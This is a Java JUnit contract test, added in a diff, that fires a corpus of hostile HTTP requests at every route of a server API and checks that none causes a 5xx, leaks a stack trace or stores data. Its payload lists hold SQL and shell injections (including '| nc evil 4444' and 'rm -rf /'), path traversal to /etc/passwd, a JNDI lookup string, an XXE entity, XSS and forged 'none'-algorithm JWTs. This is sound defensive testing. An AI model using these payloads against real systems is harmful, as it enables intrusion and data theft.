@@ -1,0 +1,307 @@
+package io.drover.server.identity;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.drover.server.testing.ApiAssertions;
+import io.drover.server.testing.RawHttp;
+import io.drover.server.testing.TestServer;
+import io.drover.server.testing.TestStores;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * A corpus of hostile requests against every operation of the spec: oversized headers and bodies,
+ * broken or odd JSON, SQL and shell metacharacters, path traversal, unicode tricks, forged,
+ * expired and revoked tokens, tampered and oversized cookies, lying content types. Each is sent
+ * with the credential the route needs (so it reaches the handler) and without any. None may get a
+ * 5xx or leak a stack trace, errors under /api/v1 are problem documents, and none stores anything:
+ * no request of the corpus is a valid one.
+ */
+abstract class HostileRequestsContract {
+    static final String[] STACK_TRACE_MARKS = {"\tat ", "Exception", "java."};
+
+    @TempDir
+    Path tmp;
+    TestServer api;
+    String admin;
+    String host;
+
+    abstract TestStores store();
+
+    @BeforeEach
+    void start() {
+        api = TestServer.start(store(), tmp, c -> c.withIdentity(RouteRoleMatrixTest.generousLimits()));
+        admin = api.adminToken();
+        host = RouteRoleMatrixTest.hostCredential(api);
+    }
+
+    @AfterEach
+    void stop() {
+        if (api != null) api.close();
+    }
+
+    /** One request of the corpus and what it tries. */
+    record Attempt(String what, String path, RawHttp.Request request) {
+        Attempt withRequest(java.util.function.UnaryOperator<RawHttp.Request> change) {
+            return new Attempt(what, path, change.apply(request));
+        }
+
+        Attempt named(String suffix) {
+            return new Attempt(what + suffix, path, request);
+        }
+    }
+
+    @Test
+    void noHostileRequestFailsTheServerLeaksItsInsidesOrStoresAnything() throws Exception {
+        List<Attempt> corpus = corpus();
+        Map<String, Integer> before = counts();
+        List<String> wrong = new ArrayList<>();
+        Map<Integer, Integer> statuses = new java.util.TreeMap<>();
+        for (Attempt attempt : corpus) {
+            RawHttp.Reply reply;
+            try {
+                reply = RawHttp.send(api.server().port(), attempt.request());
+            } catch (java.io.IOException e) {
+                wrong.add(attempt.what() + ": no answer (" + e.getMessage() + ")");
+                continue;
+            }
+            statuses.merge(reply.status(), 1, Integer::sum);
+            String problem = judge(attempt, reply);
+            if (problem != null) wrong.add(attempt.what() + ": " + problem);
+        }
+        System.out.println(getClass().getSimpleName() + ": " + corpus.size() + " hostile requests sent; statuses " + statuses);
+        assertThat(corpus.size()).isGreaterThanOrEqualTo(200);
+        assertThat(wrong).as("hostile requests answered badly").isEmpty();
+        assertThat(counts()).as("what is stored, after the corpus").isEqualTo(before);
+        // The server still serves the legitimate.
+        assertThat(api.get("/api/v1/auth/session").statusCode()).isEqualTo(200);
+    }
+
+    /** Null when the answer is sound, else what is wrong with it. */
+    static String judge(Attempt attempt, RawHttp.Reply reply) {
+        if (reply.status() >= 500) return "status " + reply.status() + " " + clip(reply.body());
+        for (String mark : STACK_TRACE_MARKS) {
+            if (reply.body().contains(mark)) return "body holds '" + mark.replace("\t", "\\t") + "': " + clip(reply.body());
+        }
+        String type = reply.header("Content-Type");
+        if (attempt.path().startsWith("/api/v1/") && reply.status() >= 400 && !reply.body().isEmpty()) {
+            if (!type.startsWith("application/problem+json")) return "error is not a problem document (" + type + "): " + clip(reply.body());
+        }
+        if (type.contains("json") && !reply.body().isEmpty()) {
+            try {
+                JsonNode body = ApiAssertions.JSON.readTree(reply.body());
+                if (reply.status() >= 400 && body.path("status").isMissingNode()) return "error body without status: " + clip(reply.body());
+            } catch (java.io.IOException e) {
+                return "a JSON content type, but not JSON: " + clip(reply.body());
+            }
+        }
+        return null;
+    }
+
+    private static String clip(String s) {
+        return s.length() > 300 ? s.substring(0, 300) + "…" : s;
+    }
+
+    /** How many of each stored thing there are, read through the API as the admin. */
+    Map<String, Integer> counts() throws Exception {
+        Map<String, Integer> counts = new LinkedHashMap<>();
+        for (String list : List.of("/api/v1/users", "/api/v1/projects", "/api/v1/vms", "/api/v1/images", "/api/v1/hosts",
+                "/api/v1/machines", "/api/v1/auth/tokens", "/api/v1/tasks")) {
+            int n = 0;
+            String cursor = null;
+            do {
+                HttpResponse<String> r = api.get(list + "?limit=100" + (cursor == null ? "" : "&cursor=" + cursor));
+                assertThat(r.statusCode()).as(list + ": " + r.body()).isEqualTo(200);
+                JsonNode page = ApiAssertions.json(r);
+                n += page.get("items").size();
+                cursor = page.path("next_cursor").isTextual() ? page.get("next_cursor").asText() : null;
+            } while (cursor != null);
+            counts.put(list, n);
+        }
+        counts.put("/api/vms", ApiAssertions.json(api.get("/api/vms")).size());
+        return counts;
+    }
+
+    // ---- the corpus ----
+
+    static final List<String> PATH_VALUES = List.of(
+            "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows", "a%2Fb", "%252e%252e%252f",
+            "%27%20OR%201%3D1%20--", "x%3B%20DROP%20TABLE%20users%3B--", "%24(reboot)", "%60id%60", "a%3B%20rm%20-rf%20%2F",
+            "a%00b", "a%0D%0ASet-Cookie:%20x=y", "%E2%80%AEtxt.exe", "a%E2%80%8Bb", "%D0%B0dmin", "%C0%AE%C0%AE%C0%AF",
+            "%ED%A0%80", "%FF%FE", "A".repeat(5000), "%");
+    static final List<String> STRING_VALUES = List.of(
+            "' OR 1=1 --", "x'; DROP TABLE users; --", "\" OR \"\"=\"", "$(reboot)", "`id`", "a; rm -rf /", "| nc evil 4444",
+            "../../etc/passwd", "..\\..\\windows\\system32", "a\u0000b", "a\r\nX-Injected: 1", "\u202Egnp.exe", "ad\u200Bmin",
+            "\u0430dmin", "\uD800", "\uDFFFx", "%00", "${jndi:ldap://evil/a}", "{{7*7}}", "<script>alert(1)</script>", "x".repeat(70_000));
+    /** Every field name a route of the spec reads, so each value lands where a handler looks. */
+    static final List<String> FIELDS = List.of("name", "username", "password", "role", "path", "format", "image", "host",
+            "user_data", "join_token", "hostname", "ip_address", "interface", "uuid", "os", "agent_version", "current_password",
+            "new_password", "totp", "Name", "RAM", "CPU", "Disk", "description");
+
+    List<Attempt> corpus() throws Exception {
+        String expired = token("{\"name\":\"soon expired\",\"ttl_seconds\":1}");
+        String revoked = token("{\"name\":\"revoked\"}");
+        String revokedId = null;
+        for (JsonNode t : ApiAssertions.json(api.get("/api/v1/auth/tokens")).get("items")) {
+            if (t.get("name").asText().equals("revoked")) revokedId = t.get("id").asText();
+        }
+        assertThat(api.delete("/api/v1/auth/tokens/" + revokedId, admin).statusCode()).isEqualTo(204);
+        String session = api.login(Users.FIRST_ADMIN, api.server().initialAdminPassword().orElseThrow()).cookie();
+        Thread.sleep(1_100);
+
+        List<Attempt> all = new ArrayList<>();
+        Map<String, String> spec = RouteRoleMatrixTest.specOperations();
+        for (Map.Entry<String, String> op : spec.entrySet()) {
+            String method = op.getKey().substring(0, op.getKey().indexOf(' '));
+            String path = op.getKey().substring(method.length() + 1);
+            String permission = op.getValue();
+            String credential = switch (permission) {
+                case "public", "registration" -> null;
+                case "agent" -> host;
+                default -> admin;
+            };
+            boolean hasBody = !method.equals("GET") && !method.equals("DELETE");
+            String concrete = placeholders(path, "nope-" + UUID.randomUUID().toString().substring(0, 8));
+            List<Attempt> mine = new ArrayList<>();
+
+            if (path.contains("{")) {
+                for (String value : PATH_VALUES) mine.add(attempt(op.getKey() + " path param " + clip(value), path, method,
+                        placeholders(path, value), hasBody ? json("{}") : null));
+            }
+            if (hasBody) {
+                for (Map.Entry<String, byte[]> body : bodies().entrySet()) {
+                    mine.add(attempt(op.getKey() + " body " + body.getKey(), path, method, concrete, body.getValue())
+                            .withRequest(r -> r.with("Content-Type", "application/json")));
+                }
+                mine.add(attempt(op.getKey() + " xml as json", path, method, concrete,
+                        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(StandardCharsets.UTF_8))
+                        .withRequest(r -> r.with("Content-Type", "application/xml")));
+                mine.add(attempt(op.getKey() + " multipart garbage", path, method, concrete,
+                        "--zz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n\r\n' OR 1=1\r\n".getBytes(StandardCharsets.UTF_8))
+                        .withRequest(r -> r.with("Content-Type", "multipart/form-data; boundary=zz")));
+                mine.add(attempt(op.getKey() + " form urlencoded", path, method, concrete, "name=%27%20OR%201%3D1&username=$(id)".getBytes(StandardCharsets.UTF_8))
+                        .withRequest(r -> r.with("Content-Type", "application/x-www-form-urlencoded")));
+            } else {
+                mine.add(attempt(op.getKey() + " query", path, method,
+                        concrete + "?limit=-1&cursor=%27%20OR%201%3D1--&q=%24(reboot)&status=..%2F..&type=%00&host=%E2%80%AE&vm=%ED%A0%80", null));
+                mine.add(attempt(op.getKey() + " query limit huge", path, method, concrete + "?limit=99999999999999999999&cursor=" + "A".repeat(4000), null));
+            }
+            // Headers: oversized, duplicated, with control characters.
+            mine.add(attempt(op.getKey() + " 64 KiB header", path, method, concrete, hasBody ? json("{}") : null)
+                    .withRequest(r -> r.with("X-Filler", "a".repeat(64 * 1024))));
+            mine.add(attempt(op.getKey() + " NUL in header", path, method, concrete, hasBody ? json("{}") : null)
+                    .withRequest(r -> r.with("X-Evil", "a\u0000b")));
+
+            for (Attempt a : mine) {
+                all.add(credential == null ? a : a.withRequest(r -> r.with("Authorization", "Bearer " + credential)).named(" (with credential)"));
+                if (credential != null) all.add(a.named(" (anonymous)"));
+            }
+
+            // Forged credentials: reaching the handler is exactly what they must not do.
+            Map<String, List<String[]>> forged = new LinkedHashMap<>();
+            forged.put("random dat_", List.<String[]>of(new String[] {"Authorization", "Bearer dat_" + UUID.randomUUID()}));
+            forged.put("JWT", List.<String[]>of(new String[] {"Authorization", "Bearer " + jwt()}));
+            forged.put("10 KiB bearer", List.<String[]>of(new String[] {"Authorization", "Bearer dat_" + "x".repeat(10 * 1024)}));
+            forged.put("expired token", List.<String[]>of(new String[] {"Authorization", "Bearer " + expired}));
+            forged.put("revoked token", List.<String[]>of(new String[] {"Authorization", "Bearer " + revoked}));
+            forged.put("basic auth", List.<String[]>of(new String[] {"Authorization", "Basic " + Base64.getEncoder().encodeToString("admin:admin".getBytes())}));
+            forged.put("empty bearer", List.<String[]>of(new String[] {"Authorization", "Bearer "}));
+            forged.put("forged host credential", List.<String[]>of(new String[] {"Authorization", "Bearer dhc_" + UUID.randomUUID()}));
+            forged.put("two Authorization headers", List.of(new String[] {"Authorization", "Bearer dat_forged"}, new String[] {"Authorization", "Bearer " + admin}));
+            forged.put("tampered session cookie", List.<String[]>of(new String[] {"Cookie", tamper(session)}));
+            forged.put("duplicate session cookies", List.<String[]>of(new String[] {"Cookie", Sessions.COOKIE + "=dss_forged; " + tamper(session) + "; " + Sessions.COOKIE + "=x"}));
+            forged.put("huge cookie", List.<String[]>of(new String[] {"Cookie", Sessions.COOKIE + "=dss_" + "y".repeat(7000)}));
+            forged.put("cookie with CSRF guess", List.of(new String[] {"Cookie", tamper(session)}, new String[] {"X-CSRF-Token", "' OR 1=1 --"}));
+            for (Map.Entry<String, List<String[]>> f : forged.entrySet()) {
+                Attempt a = attempt(op.getKey() + " " + f.getKey(), path, method, concrete, hasBody ? json("{}") : null);
+                for (String[] h : f.getValue()) a = a.withRequest(r -> r.with(h[0], h[1]));
+                all.add(a);
+            }
+        }
+        return all;
+    }
+
+    /** Bodies of every hostile kind; none is a valid request for any route. */
+    static Map<String, byte[]> bodies() {
+        Map<String, byte[]> bodies = new LinkedHashMap<>();
+        bodies.put("broken JSON", bytes("{\"name\": \"x\", "));
+        bodies.put("not JSON", bytes("' OR 1=1 --"));
+        bodies.put("JSON array", bytes("[1,2,3]"));
+        bodies.put("JSON string", bytes("\"admin\""));
+        bodies.put("wrong types", bytes("{\"name\":123,\"username\":[],\"password\":{},\"role\":true,\"cpus\":\"many\",\"memory_mib\":-1,"
+                + "\"disk_gib\":1e400,\"ttl_seconds\":\"soon\",\"read_only\":\"yes\",\"disabled\":\"no\",\"projects\":\"all\","
+                + "\"ssh_keys\":7,\"start\":\"x\",\"timeout_seconds\":-5,\"join_token\":5,\"hostname\":null,\"ip_address\":[1]}"));
+        bodies.put("deeply nested", bytes("[".repeat(20_000) + "]".repeat(20_000)));
+        bodies.put("deeply nested object", bytes("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)));
+        bodies.put("oversized (100 KiB)", bytes("{\"name\":\"" + "x".repeat(100 * 1024) + "\"}"));
+        bodies.put("huge number", bytes("{\"cpus\":" + "9".repeat(5000) + ",\"ttl_seconds\":" + "9".repeat(5000) + "}"));
+        bodies.put("overlong UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC0, (byte) 0xAE, (byte) 0xC0, (byte) 0xAF, '"', '}'});
+        bodies.put("invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'});
+        bodies.put("duplicate keys", bytes("{\"name\":\"ok-name\",\"name\":\"' OR 1=1\",\"role\":\"viewer\",\"role\":\"root\"}"));
+        for (int i = 0; i < STRING_VALUES.size(); i++) {
+            String value = STRING_VALUES.get(i);
+            StringBuilder json = new StringBuilder("{");
+            for (String field : FIELDS) json.append('"').append(field).append("\":").append(quote(value)).append(',');
+            // Numbers and flags wrong too, so no route finds a valid request here.
+            json.append("\"cpus\":").append(quote(value)).append(",\"ttl_seconds\":").append(quote(value))
+                    .append(",\"projects\":[").append(quote(value)).append("],\"ssh_keys\":[").append(quote(value)).append("]}");
+            bodies.put("strings #" + i + " " + quote(value.length() > 30 ? value.substring(0, 30) : value), bytes(json.toString()));
+        }
+        return bodies;
+    }
+
+    private static Attempt attempt(String what, String path, String method, String target, byte[] body) {
+        return new Attempt(what, path, new RawHttp.Request(method, target, List.of(), body));
+    }
+
+    private static String placeholders(String path, String value) {
+        return path.replace("{hostname}", value).replace("{name}", value).replace("{id}", value);
+    }
+
+    private String token(String body) {
+        HttpResponse<String> r = api.postAsAdmin("/api/v1/auth/tokens", body);
+        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
+        return ApiAssertions.json(r).get("token").asText();
+    }
+
+    private static String tamper(String cookie) {
+        char last = cookie.charAt(cookie.length() - 1);
+        return cookie.substring(0, cookie.length() - 1) + (last == 'Q' ? 'R' : 'Q');
+    }
+
+    private static String jwt() {
+        Base64.Encoder b = Base64.getUrlEncoder().withoutPadding();
+        return b.encodeToString(bytes("{\"alg\":\"none\",\"typ\":\"JWT\"}")) + "." + b.encodeToString(bytes("{\"sub\":\"admin\",\"role\":\"admin\"}")) + ".";
+    }
+
+    private static byte[] json(String s) {
+        return bytes(s);
+    }
+
+    private static byte[] bytes(String s) {
+        return s.getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** A JSON string literal (JSON escapes for control characters; lone surrogates as \\u escapes). */
+    static String quote(String s) {
+        StringBuilder out = new StringBuilder("\"");
+        for (char c : s.toCharArray()) {
+            if (c == '"' || c == '\\') out.append('\\').append(c);
+            else if (c < 0x20 || Character.isSurrogate(c)) out.append(String.format("\\u%04x", (int) c));
+            else out.append(c);
+        }
+        return out.append('"').toString();
+    }
+}
